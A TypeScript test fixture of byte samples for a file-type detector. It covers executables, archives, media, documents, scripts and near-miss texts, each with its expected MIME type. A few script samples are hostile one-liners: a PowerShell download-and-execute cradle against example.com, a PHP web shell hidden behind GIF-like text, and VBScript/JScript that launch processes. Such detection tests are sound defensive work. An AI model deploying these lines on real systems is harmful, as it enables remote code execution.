import { deflateRawSync, gzipSync, zstdCompressSync } from "node:zlib";
import type { FileType } from "#core/files/types/file-types.ts";
import { bytesOf } from "../../support/chunk-invariance.ts";

export type TypeSample = [title: string, type: FileType, bytes: Uint8Array];

/** One character a byte, and `length` bytes in all, filled with NULs. */
function padded(text: string, length: number): Uint8Array {
  return bytesOf(text.padEnd(length, "\0"));
}

function placed(length: number, ...pieces: [at: number, text: string][]): Uint8Array {
  const bytes = new Uint8Array(length);
  for (const [at, text] of pieces) bytes.set(bytesOf(text), at);
  return bytes;
}

/** A program of Windows: the old header with a pointer to the new one. */
export function portableExecutable(): Uint8Array {
  return placed(512, [0, "MZ"], [60, "\x80"], [128, "PE\0\0\x64\x86\x03\0"]);
}

function utf16le(text: string): Uint8Array {
  return Uint8Array.from(Buffer.from(`\ufeff${text}`, "utf16le"));
}

function utf16be(text: string): Uint8Array {
  return Uint8Array.from(Buffer.from(`\ufeff${text}`, "utf16le").swap16());
}

const page = "<!DOCTYPE html>\n<html><head><title>x</title></head><body>hello</body></html>\n";

/** Files whose first bytes tell their type. */
export const binarySamples: TypeSample[] = [
  ["a program of Windows", "application/vnd.microsoft.portable-executable", portableExecutable()],
  [
    "a program whose new header stands behind the head",
    "application/vnd.microsoft.portable-executable",
    placed(65_536, [0, "MZ\x90\0\x03\0\0\0\x04\0\0\0\xff\xff\0\0\xb8\0\0\0\0\0\0\0\x40"], [60, "\0\0\x02\0"]),
  ],
  ["a program of DOS", "application/x-dosexec", placed(512, [0, "MZ\x50\0\x02\0\0\0\x04\0\x0f\0\xff\xff\0\0\xb8\0"])],
  ["a program of 16-bit Windows", "application/x-dosexec", placed(512, [0, "MZ"], [60, "\x80"], [128, "NE"])],
  ["a program of Linux", "application/x-elf", padded("\x7fELF\x02\x01\x01", 64)],
  ["a program of macOS", "application/x-mach-binary", padded("\xcf\xfa\xed\xfe\x07\0\0\x01", 64)],
  ["a program of macOS for two processors", "application/x-mach-binary", padded("\xca\xfe\xba\xbe\0\0\0\x02", 64)],
  ["a class of Java", "application/java-vm", padded("\xca\xfe\xba\xbe\0\0\0\x34", 64)],
  ["a program of Android", "application/vnd.android.dex", padded("dex\n035\0", 64)],
  ["WebAssembly", "application/wasm", bytesOf("\0asm\x01\0\0\0")],
  ["Flash", "application/x-shockwave-flash", padded("CWS\x0a\x40\x01\0\0\x78", 64)],
  ["compiled help", "application/vnd.ms-htmlhelp", padded("ITSF\x03\0\0\0", 96)],
  ["a link of Windows", "application/x-ms-shortcut", padded("L\0\0\0\x01\x14\x02\0\0\0\0\0\xc0\0\0\0\0\0\0F", 76)],
  ["an encoded script", "text/x-script-encoded", bytesOf("#@~^XAAAAA==\\ko$K6,JuVsGJ@#@&")],
  ["a zip", "application/zip", padded("PK\x03\x04\x14\0\0\0\x08\0", 60)],
  ["an empty zip", "application/zip", padded("PK\x05\x06", 22)],
  ["a 7z", "application/x-7z-compressed", padded("7z\xbc\xaf\x27\x1c\0\x04", 32)],
  ["a rar 4", "application/vnd.rar", padded("Rar!\x1a\x07\0", 32)],
  ["a rar 5", "application/vnd.rar", padded("Rar!\x1a\x07\x01\0", 32)],
  ["a gzip", "application/gzip", Uint8Array.from(gzipSync("hello"))],
  ["a bzip2", "application/x-bzip2", bytesOf("BZh91AY&SY\x12\x34")],
  ["an xz", "application/x-xz", padded("\xfd7zXZ\0\0\x04", 32)],
  ["a zstd", "application/zstd", Uint8Array.from(zstdCompressSync("hello"))],
  ["a compress", "application/x-compress", bytesOf("\x1f\x9d\x90hello")],
  ["a tar", "application/x-tar", placed(1024, [0, "a.txt"], [257, "ustar\x0000"])],
  ["a cabinet", "application/vnd.ms-cab-compressed", padded("MSCF\0\0\0\0\x40\0\0\0", 64)],
  ["an arj", "application/x-arj", padded("\x60\xea\x2c\0\x22\x0b\x01\x02\x10\0\x02", 64)],
  ["an lha", "application/x-lzh-compressed", padded("\x20\x35-lh5-\x10\0\0\0\x20\0\0\0\0\0\0\0\x20\x01", 40)],
  ["an ace", "application/x-ace-compressed", padded("\x12\x34\x31\0\0\0\x90**ACE**", 64)],
  ["a disk image of ISO 9660", "application/x-iso9660-image", placed(0x8800, [0x8001, "CD001"])],
  ["a virtual disk", "application/x-vhd", padded("conectix\0\0\0\x02", 512)],
  ["a virtual disk, new", "application/x-vhdx", padded("vhdxfile", 512)],
  ["a PDF", "application/pdf", bytesOf("%PDF-1.7\n1 0 obj\n")],
  ["a PDF behind other bytes", "application/pdf", bytesOf(`${"junk \x01\n".repeat(140)}%PDF-1.4\n`)],
  ["rich text", "application/rtf", bytesOf("{\\rtf1\\ansi hello}")],
  ["rich text that is malformed", "application/rtf", bytesOf("\n {\\rt hello}")],
  ["an OLE file", "application/x-ole-storage", padded("\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1", 512)],
  ["OneNote", "application/onenote", padded("\xe4\x52\x5c\x7b\x8c\xd8\xa7\x4d\xae\xb1\x53\x78\xd0\x29\x96\xd3", 64)],
  ["TNEF", "application/vnd.ms-tnef", padded("\x78\x9f\x3e\x22\x01\0", 32)],
  ["Excel 4 without OLE", "application/vnd.ms-excel", padded("\x09\x04\x06\0\0\0\x40\0", 32)],
  ["PNG", "image/png", padded("\x89PNG\r\n\x1a\n", 32)],
  ["JPEG", "image/jpeg", padded("\xff\xd8\xff\xe0\0\x10JFIF", 32)],
  ["GIF", "image/gif", padded("GIF89a\x01\0\x01\0", 32)],
  ["BMP", "image/bmp", placed(80, [0, "BM\x50"], [10, "\x36"], [14, "\x28"])],
  ["WebP", "image/webp", padded("RIFF\x10\0\0\0WEBPVP8 ", 32)],
  ["an icon", "image/vnd.microsoft.icon", placed(64, [2, "\x01\0\x01"], [18, "\x16"])],
  ["a metafile", "image/emf", placed(128, [0, "\x01\0\0\0\x6c"], [40, " EMF"])],
  ["MP3", "audio/mpeg", padded("ID3\x03\0\0\0\0\0\x21", 128)],
  ["MP3 without tags", "audio/mpeg", padded("\xff\xfb\x90\x64", 128)],
  ["WAV", "audio/wav", padded("RIFF\x24\0\0\0WAVEfmt ", 64)],
  ["MP4", "video/mp4", padded("\0\0\0\x18ftypisom", 64)],
  ["HEIC", "image/heic", padded("\0\0\0\x18ftypheic", 64)],
  ["AVI", "video/x-msvideo", padded("RIFF\x24\0\0\0AVI LIST", 64)],
  ["a font", "font/ttf", padded("\0\x01\0\0\0\x10\x01\0", 64)],
  ["a font of the web", "font/woff2", padded("wOF2\0\x01\0\0", 64)],
  ["SQLite", "application/vnd.sqlite3", padded("SQLite format 3\0", 128)],
  ["Access", "application/x-msaccess", padded("\0\x01\0\0Standard Jet DB\0", 128)],
  [
    "a message encrypted with S/MIME",
    "application/pkcs7-mime",
    padded("\x30\x82\x02\x10\x06\x09\x2a\x86\x48\x86\xf7\x0d\x01\x07\x03\xa0", 64),
  ],
  [
    "a signature of S/MIME",
    "application/pkcs7-signature",
    padded("\x30\x80\x06\x09\x2a\x86\x48\x86\xf7\x0d\x01\x07\x02\xa0", 64),
  ],
  ["nothing", "application/x-empty", new Uint8Array(0)],
  ["bytes of no known kind", "application/octet-stream", Uint8Array.from(deflateRawSync(Buffer.from(page.repeat(40))))],
];

/** Texts that are told apart by how they begin or by what stands in them. */
export const textSamples: TypeSample[] = (
  [
    ["a page", "text/html", page],
    ["a page after a comment and blanks", "text/html", "\r\n \t<!-- x -->\n<HTML>hello"],
    ["a page without head", "text/html", "<a href='http://example.com/'>click</a>"],
    ["a page behind other text", "text/html", `some words first\n${page}`],
    ["a page with NULs between its letters", "text/html", "<\0s\0c\0ript>alert(1)</script\0>"],
    ["an application of HTML", "application/hta", "<html><head><HTA:APPLICATION id=x></head><script>1</script></html>"],
    ["a drawing", "image/svg+xml", '<?xml version="1.0"?>\n<!-- x -->\n<svg xmlns="http://www.w3.org/2000/svg"/>'],
    ["a drawing without declaration", "image/svg+xml", '<svg onload="x()"></svg>'],
    ["XML", "application/xml", '<?xml version="1.0"?><order><item/></order>'],
    ["JSON", "application/json", '{"a": [1, 2]}'],
    ["Visual Basic", "text/vbscript", 'Dim s\r\nSet s = CreateObject("WScript.Shell")\r\ns.Run "calc"\r\n'],
    ["Visual Basic that hides", "text/vbscript", "On Error Resume Next\nx = Chr(99) & Chr(97)\nExecute(f(x))\n"],
    ["JScript", "text/javascript", 'var s = new ActiveXObject("WScript.Shell");\ns.Run("calc");\n'],
    ["JavaScript", "text/javascript", "function f(a) {\n  return a;\n}\nvar x = f(1);\n"],
    [
      "PowerShell",
      "text/x-powershell",
      "$c = New-Object Net.WebClient\nIEX ($c.DownloadString('http://example.com/'))\n",
    ],
    ["PowerShell of administrators", "text/x-powershell", "param($a)\n$x = 1\nGet-ChildItem -Path $a | Out-Null\n"],
    ["a batch file", "text/x-msdos-batch", "@echo off\r\ncd %TEMP%\r\n"],
    [
      "a batch file without echo",
      "text/x-msdos-batch",
      "setlocal\r\nset X=1\r\nif exist %~dp0a.exe goto run\r\n:run\r\n",
    ],
    ["a script of Windows", "text/x-windows-script", '<job id="a"><script language="VBScript">x</script></job>'],
    ["a shell script", "text/x-shellscript", "#!/bin/sh\necho hello\n"],
    ["a shell script by env", "text/x-shellscript", "#!/usr/bin/env bash\necho hello\n"],
    ["a shell script without its first line", "text/x-shellscript", "if [ -f x ]; then\n  echo hello\nfi\n"],
    [
      "Python",
      "text/x-python",
      "import os\n\ndef main(a, b):\n    print(a)\n\nif __name__ == '__main__':\n    main(1, 2)\n",
    ],
    ["Python by its first line", "text/x-python", "#!/usr/bin/env python3\nprint(1)\n"],
    ["Perl", "text/x-perl", "#!/usr/bin/perl -w\nprint 1;\n"],
    ["PHP", "text/x-php", "<?php echo 1; ?>"],
    ["PHP behind other text", "text/x-php", "GIF is a format\n<?php system($_GET['x']); ?>"],
    ["a link of the web", "application/x-mswinurl", "[InternetShortcut]\r\nURL=file://example.com/x\r\n"],
    ["a link of a desktop", "application/x-desktop", "[Desktop Entry]\nExec=x\n"],
    ["a change of the registry", "text/x-ms-regedit", "Windows Registry Editor Version 5.00\r\n"],
    ["a setup script", "application/x-setupscript", '; driver\r\n\r\n[Version]\r\nSignature="$Windows NT$"\r\n'],
    ["a remote desktop", "application/x-rdp", "screen mode id:i:2\r\nfull address:s:example.com\r\n"],
    ["settings that run", "application/x-ms-shell-xml", '<?xml version="1.0"?><PCSettings><x/></PCSettings>'],
    ["a symbolic link sheet", "application/x-sylk", "ID;PWXL;N;E\r\nC;X1;Y1\r\n"],
    ["a web query", "application/x-ms-web-query", "WEB\r\n1\r\nhttp://example.com/\r\n"],
    ["PostScript", "application/postscript", "%!PS-Adobe-3.0\n"],
    ["a card", "text/vcard", "BEGIN:VCARD\r\nVERSION:3.0\r\nEND:VCARD\r\n"],
    ["a calendar", "text/calendar", "BEGIN:VCALENDAR\r\nEND:VCALENDAR\r\n"],
    ["a message", "message/rfc822", "Received: from a\r\n\tby b\r\nFrom: a@example.com\r\nX-A: b\r\n\r\nhello\r\n"],
    ["a mailbox", "application/mbox", "From a@example.com Mon Jan  1 00:00:00 2026\nFrom: a\nTo: b\n\nx\n"],
    ["a message encrypted with PGP", "application/pgp-encrypted", "-----BEGIN PGP MESSAGE-----\n\nxxxx\n"],
    ["a key in PEM", "application/x-pem-file", "-----BEGIN CERTIFICATE-----\nMII\n"],
  ] satisfies [string, FileType, string][]
).map(([title, type, text]) => [title, type, bytesOf(text)]);

/** What looks a little like something that it is not. */
export const nearMisses: TypeSample[] = (
  [
    ["the letters MZ", "text/plain", "MZ is how programs begin.\n"],
    ["the letters MZ before NULs", "application/octet-stream", `MZ${"\0".repeat(200)}`],
    [
      "the letters MZ with a pointer to no header",
      "application/octet-stream",
      `MZ${"\x01".repeat(58)}\x80\0\0\0${"\x02".repeat(200)}`,
    ],
    ["the letters of Flash", "text/plain", "FWS stands for nothing here.\n"],
    ["the letters BM", "text/plain", "BMW sells cars.\n"],
    ["the letters BZh", "text/plain", "BZh9 is how bzip2 begins\n"],
    ["the letters ID3", "text/plain", "ID3 tags are metadata\n"],
    ["the letters of lha", "text/plain", "a -lh5- is a method\n"],
    ["a PDF that begins too late", "text/plain", `${"x".repeat(1_025)}%PDF-1.4\n`],
    ["rich text that begins late", "text/plain", "see {\\rtf1 hello}"],
    ["prose about a tag", "text/plain", "Use the <html> element first, then <p>.\n"],
    [
      "prose about scripts",
      "text/plain",
      "Dim the light. The function is off; set x to 1 and exit. Use CreateObject() to start.\n",
    ],
    ["prose about a command", "text/plain", "Run Get-ChildItem on the server, then set PATH=x and call me.\n"],
    [
      "a message's reply with a quoted line of code",
      "text/plain",
      "Hi,\n\nthis one fails:\n\n> var x = 1;\n\nRegards\n",
    ],
    [
      "an answer that quotes a program",
      "text/plain",
      "Hello Anna,\n\nthe function that you sent does not work here, because it returns too early.\nThis one does what you want it to do:\n\nfunction f(a) {\n  var b = a;\n  return b;\n}\n\nPlease tell me whether it works for you.\nThe other one can stay as it is for now.\n",
    ],
    ["a table of values", "text/plain", "name,amount\nA,1\nB,2\n"],
    ["a log", "text/plain", "2026-01-01 00:00:00 INFO start: done\n2026-01-01 00:00:01 WARN x=1 (y)\n"],
    ["text of Latin-1", "text/plain", "Gr\xfc\xdfe aus K\xf6ln\n"],
    ["a settings file", "text/plain", "[settings]\nname=value\n"],
    [
      "fields that are not of mail",
      "text/plain",
      "Manifest-Version: 1.0\nX-Compile-Source: 1.3\nX-Compile-Target: 1.1\nSubject: x\n",
    ],
    ["one field of mail", "text/plain", "Subject: matter\nand more\n"],
    ["a to-do list", "text/plain", "if possible: call Anna\nfor Monday: done\n:notes\n"],
    ["an unfinished first line", "text/plain", "#! of a thing\n"],
  ] satisfies [string, FileType, string][]
).map(([title, type, text]) => [title, type, bytesOf(text)]);

/** The same text in the encodings that programs of Windows read. */
export const wideSamples: TypeSample[] = [
  ["a page, little end first", "text/html", utf16le(page)],
  ["a page, big end first", "text/html", utf16be(page)],
  ["a page without mark of order", "text/html", utf16le(page).subarray(2)],
  ["a page with the mark of UTF-8", "text/html", bytesOf(`\xef\xbb\xbf${page}`)],
  [
    "PowerShell",
    "text/x-powershell",
    utf16le("$c = New-Object Net.WebClient\r\nIEX $c\r\n$d = 1; Get-Item -Path x\r\n"),
  ],
  ["a change of the registry", "text/x-ms-regedit", utf16le("Windows Registry Editor Version 5.00\r\n")],
  ["a link of the web", "application/x-mswinurl", utf16le("[InternetShortcut]\r\nURL=x\r\n")],
  ["prose", "text/plain", utf16le("Just some words, nothing else.\r\n")],
];
